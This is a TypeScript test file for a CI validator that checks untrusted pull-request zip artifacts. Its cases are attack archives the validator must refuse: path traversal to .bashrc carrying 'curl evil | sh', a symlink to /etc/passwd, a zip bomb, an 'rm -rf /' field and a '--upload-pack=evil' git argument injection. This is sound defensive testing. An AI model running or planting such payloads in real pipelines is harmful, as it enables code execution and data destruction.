// The trusted review reads the `pr-plans` artifact that pull-request code uploaded. Each case
// is an artifact an attacker could upload; each must be refused before anything is written,
// with a message that names the problem (tools/ci/zip.ts, tools/ci/pr-plans.ts).
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { acceptPrPlans, ARTIFACT_LIMITS, main, SCENARIO_ENTRY_LIMITS } from "../tools/ci/pr-plans";
import { ArtifactError, readZip } from "../tools/ci/zip";
import { planJson } from "../plan/plan";
import { craftPlan } from "./diff-fixtures";
import { fixtureCatalog } from "./fixtures/diff-catalog";
import { type FakeEntry, makeZip } from "./fixtures/zip";

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "llmobs-artifact-"));
afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

let n = 0;
const fresh = () => {
  const d = path.join(scratch, `t${n++}`);
  fs.mkdirSync(d);
  return d;
};

/** A repository with a base branch and a commit that is not on it, for the base-commit check. */
const git = { dir: "", onMain: "", offMain: "" };
function run(cwd: string, ...args: string[]): string {
  const r = spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", ...args], { cwd, encoding: "utf8" });
  if (r.status !== 0) throw new Error(r.stderr);
  return r.stdout.trim();
}

const HEAD = "b".repeat(40);
const plans = { prod: "", staging: "" };

beforeAll(() => {
  git.dir = fresh();
  run(git.dir, "init", "-q", "-b", "main");
  run(git.dir, "commit", "-q", "--allow-empty", "-m", "base");
  git.onMain = run(git.dir, "rev-parse", "HEAD");
  run(git.dir, "checkout", "-q", "-b", "elsewhere");
  run(git.dir, "commit", "-q", "--allow-empty", "-m", "not on main");
  git.offMain = run(git.dir, "rev-parse", "HEAD");
  for (const stack of ["prod", "staging"] as const) plans[stack] = planJson(craftPlan(fixtureCatalog(stack, undefined, fresh()), stack));
});

const review = (over: Record<string, unknown> = {}) =>
  JSON.stringify({ baseSha: git.onMain, headSha: HEAD, stacks: ["prod", "staging"], ...over });
const good = (): FakeEntry[] => [
  { name: "review.json", data: review() },
  { name: "prod/plan.json", data: plans.prod },
  { name: "staging/plan.json", data: plans.staging, method: 0 },
];

function accept(entries: FakeEntry[], opts: { expectHead?: string; baseBranch?: string } = {}) {
  const dir = fresh();
  const zip = path.join(dir, "pr-plans.zip");
  fs.writeFileSync(zip, makeZip(entries));
  const out = path.join(dir, "out");
  const call = () => acceptPrPlans({ zip, out, stacks: ["prod", "staging"], expectHead: HEAD, baseBranch: "main", ...opts }, git.dir);
  return { call, out, dir };
}

describe("the pr-plans artifact", () => {
  it("is accepted when it holds exactly the review and a plan per stack, and its plans are written byte for byte.", () => {
    const { call, out } = accept(good());
    expect(call()).toEqual({ baseSha: git.onMain, headSha: HEAD, stacks: ["prod", "staging"] });
    expect(fs.readFileSync(path.join(out, "prod", "plan.json"), "utf8")).toBe(plans.prod);
    expect(fs.readFileSync(path.join(out, "staging", "plan.json"), "utf8")).toBe(plans.staging);
  });

  it("is accepted with directory entries, as zip tools write them.", () => {
    expect(accept([{ name: "prod/", method: 0 }, ...good()]).call().headSha).toBe(HEAD);
  });

  it.each<[string, () => FakeEntry[], RegExp]>([
    [
      "an entry that climbs out with ../",
      () => [...good(), { name: "../../.bashrc", data: "curl evil | sh" }],
      /unexpected entries: \.\.\/\.\.\/\.bashrc/,
    ],
    [
      "a plan path that climbs out",
      () => [...good(), { name: "prod/../../x/plan.json", data: "{}" }],
      /unexpected entries: prod\/\.\.\/\.\.\/x\/plan\.json/,
    ],
    ["an absolute path", () => [...good(), { name: "/etc/cron.d/x", data: "x" }], /unexpected entries: \/etc\/cron\.d\/x/],
    ["a stack nobody asked for", () => [...good(), { name: "evil/plan.json", data: plans.prod }], /unexpected entries: evil\/plan\.json/],
    ["a missing plan", () => good().filter((e) => e.name !== "staging/plan.json"), /missing entries: staging\/plan\.json/],
    [
      "a symbolic link",
      () => [...good().slice(0, 2), { name: "staging/plan.json", data: "/etc/passwd", unixMode: 0o120777 }],
      /staging\/plan\.json: symbolic links are not accepted/,
    ],
    ["a name twice", () => [...good(), { name: "prod/plan.json", data: plans.prod }], /prod\/plan\.json: appears twice in the archive/],
    ["an encrypted entry", () => [{ ...good()[0], flags: 1 }, ...good().slice(1)], /review\.json: encrypted entries are not accepted/],
    [
      "a bomb that inflates past its declared size",
      () => [{ name: "review.json", data: "x".repeat(4 << 20), declaredSize: 100 }],
      /review\.json: does not inflate to its declared 100 bytes/,
    ],
    [
      "an entry declared over the cap",
      () => [{ name: "review.json", data: "{}", declaredSize: ARTIFACT_LIMITS.maxEntryBytes + 1 }],
      /over the cap/,
    ],
    ["a corrupted entry", () => [{ ...good()[0], crc: 12345 }, ...good().slice(1)], /review\.json: CRC mismatch/],
    [
      "a method other than stored or deflate",
      () => [{ ...good()[0], method: 12 }, ...good().slice(1)],
      /compression method 12 is not accepted/,
    ],
    ["a name that is not printable ASCII", () => [...good(), { name: "prod\u202e/plan.json", data: "{}" }], /not printable ASCII/],
    [
      "a plan that is not JSON",
      () => [good()[0], { name: "prod/plan.json", data: "{oops" }, good()[2]],
      /prod\/plan\.json: is not valid JSON/,
    ],
    [
      "a plan of the wrong shape",
      () => [good()[0], { name: "prod/plan.json", data: '{"resources":{}}' }, good()[2]],
      /prod\/plan\.json: is malformed/,
    ],
    [
      "a plan of a formatVersion this code cannot read",
      () => [good()[0], { name: "prod/plan.json", data: plans.prod.replace("{", '{"formatVersion": 9,') }, good()[2]],
      /prod\/plan\.json: has formatVersion 9, which this llm-observability cannot read/,
    ],
    [
      "a plan whose cost record is not numbers",
      () => [
        good()[0],
        {
          name: "prod/plan.json",
          data: JSON.stringify({
            ...JSON.parse(plans.prod),
            formatVersion: 1,
            inputs: { hash: "h", package: "0.1.0", files: [], code: { sha256: "c", files: 0 } },
            features: [],
            cost: { budget: "lots" },
          }),
        },
        good()[2],
      ],
      /prod\/plan\.json: is malformed: cost needs budget, indexed, ingested and monthlyUsd/,
    ],
    [
      "another stack's plan in a stack's place",
      () => [good()[0], { name: "prod/plan.json", data: plans.staging }, good()[2]],
      /prod\/plan\.json is the plan of stack "staging"/,
    ],
    [
      "a plan of another project",
      () => [
        good()[0],
        { name: "prod/plan.json", data: plans.prod.replace('"project": "llm-observability"', '"project": "other"') },
        good()[2],
      ],
      /a plan of project "other"/,
    ],
    ["a review that is not JSON", () => [{ name: "review.json", data: "nope" }, ...good().slice(1)], /review\.json is not valid JSON/],
    [
      "a review with more to say",
      () => [{ name: "review.json", data: review({ run: "rm -rf /" }) }, ...good().slice(1)],
      /must have exactly baseSha, headSha and stacks/,
    ],
    [
      "a review whose base is not a commit id",
      () => [{ name: "review.json", data: review({ baseSha: "--upload-pack=evil" }) }, ...good().slice(1)],
      /baseSha must be a 40-character commit id/,
    ],
    [
      "a review of other stacks",
      () => [{ name: "review.json", data: review({ stacks: ["prod"] }) }, ...good().slice(1)],
      /review\.json lists stacks prod; expected prod, staging/,
    ],
    [
      "a review made for another head",
      () => [{ name: "review.json", data: review({ headSha: "c".repeat(40) }) }, ...good().slice(1)],
      /review\.json is for head c{40}, but the run was for b{40}/,
    ],
    [
      "a base commit that is not on the base branch",
      () => [{ name: "review.json", data: review({ baseSha: git.offMain }) }, ...good().slice(1)],
      /base commit [0-9a-f]{40} is not part of main/,
    ],
  ])("is refused for %s, and nothing is written.", (_case, entries, message) => {
    const { call, out } = accept(entries());
    expect(call).toThrow(ArtifactError);
    expect(call).toThrow(message);
    expect(fs.existsSync(out)).toBe(false);
  });

  it("is refused when the archive is over its cap, before a byte of it is parsed.", () => {
    const big = Buffer.alloc(ARTIFACT_LIMITS.maxArchiveBytes + 1);
    expect(() => readZip(big, ARTIFACT_LIMITS)).toThrow(/over the cap of 33554432/);
  });

  it.each([
    ["not a zip", Buffer.from("PK nothing to see")],
    ["empty", Buffer.alloc(0)],
    ["truncated", makeZip(good()).subarray(40)],
  ])("is refused when it is %s.", (_case, buf) => {
    expect(() => readZip(buf, ARTIFACT_LIMITS)).toThrow(ArtifactError);
  });

  it("is refused when it has more entries than the cap.", () => {
    const many = Array.from({ length: ARTIFACT_LIMITS.maxEntries + 1 }, (_, i) => ({ name: `f${i}`, data: "x" }));
    expect(() => readZip(makeZip(many), ARTIFACT_LIMITS)).toThrow(/257 entries, over the cap of 256/);
  });
});

describe("the head's scenario files in the pr-plans artifact (data for the diff's behaviour section)", () => {
  const SCENARIO = "name: one overspend pages once\nstart: 2026-03-02T00:00:00Z\nduration: 3d\nexpect:\n  - monitor: cost-budget\n";

  it("are accepted, optional, and written byte for byte under scenarios/ next to the plans.", () => {
    const { call, out } = accept([...good(), { name: "scenarios/", method: 0 }, { name: "scenarios/overspend.yaml", data: SCENARIO }]);
    expect(call().headSha).toBe(HEAD);
    expect(fs.readFileSync(path.join(out, "scenarios", "overspend.yaml"), "utf8")).toBe(SCENARIO);
    expect(fs.readdirSync(path.join(out, "scenarios"))).toEqual(["overspend.yaml"]);
  });

  it.each<[string, FakeEntry, RegExp]>([
    ["a scenario file one directory too deep", { name: "scenarios/x/y.yaml", data: SCENARIO }, /unexpected entries: scenarios\/x\/y\.yaml/],
    [
      "a scenario path that climbs out",
      { name: "scenarios/../../x.yaml", data: SCENARIO },
      /unexpected entries: scenarios\/\.\.\/\.\.\/x\.yaml/,
    ],
    [
      "a file under scenarios/ that is not YAML by name",
      { name: "scenarios/run.sh", data: "curl evil | sh" },
      /unexpected entries: scenarios\/run\.sh/,
    ],
    ["a scenario file that is not YAML", { name: "scenarios/bad.yaml", data: "a: [1, 2" }, /scenarios\/bad\.yaml: is not valid YAML/],
    [
      "a scenario file that is not a mapping",
      { name: "scenarios/list.yaml", data: "- 1\n- 2\n" },
      /scenarios\/list\.yaml: must be a YAML mapping/,
    ],
    ["a scenario file that is not UTF-8", { name: "scenarios/bin.yaml", data: Buffer.from([0x6e, 0x3a, 0xff, 0xfe]) }, /is not UTF-8 text/],
    [
      "a scenario file over the size cap",
      { name: "scenarios/big.yaml", data: `name: x\nnote: ${"x".repeat(SCENARIO_ENTRY_LIMITS.bytes)}\n` },
      /scenarios\/big\.yaml: \d+ bytes; a scenario file may have at most 262144/,
    ],
  ])("are refused for %s, and nothing is written.", (_case, entry, message) => {
    const { call, out } = accept([...good(), entry]);
    expect(call).toThrow(ArtifactError);
    expect(call).toThrow(message);
    expect(fs.existsSync(out)).toBe(false);
  });

  it("are refused past the cap on their number.", () => {
    const many = Array.from({ length: SCENARIO_ENTRY_LIMITS.files + 1 }, (_, i) => ({ name: `scenarios/s${i}.yaml`, data: SCENARIO }));
    const { call } = accept([...good(), ...many]);
    expect(call).toThrow(/201 scenario files; at most 200 are accepted/);
  });
});

describe("npx tsx tools/ci/pr-plans.ts", () => {
  async function cli(argv: string[]) {
    const out: string[] = [];
    const err: string[] = [];
    const code = await main(argv, { out: (t) => out.push(t), err: (t) => err.push(t) });
    return { code, out: out.join("\n"), err: err.join("\n") };
  }

  it("prints the review as JSON and exits 0 for an artifact it accepts.", async () => {
    const { dir } = accept(good());
    const r = await cli(["--zip", path.join(dir, "pr-plans.zip"), "--out", path.join(dir, "out"), "--stack", "prod", "--stack", "staging"]);
    expect(r).toEqual({ code: 0, out: JSON.stringify({ baseSha: git.onMain, headSha: HEAD, stacks: ["prod", "staging"] }), err: "" });
  });

  it("says why and exits 1 for an artifact it refuses.", async () => {
    const { dir } = accept([...good(), { name: "../../.bashrc", data: "x" }]);
    const r = await cli(["--zip", path.join(dir, "pr-plans.zip"), "--out", path.join(dir, "out"), "--stack", "prod", "--stack", "staging"]);
    expect(r).toEqual({ code: 1, out: "", err: "pr-plans: the artifact is refused: unexpected entries: ../../.bashrc" });
  });
});
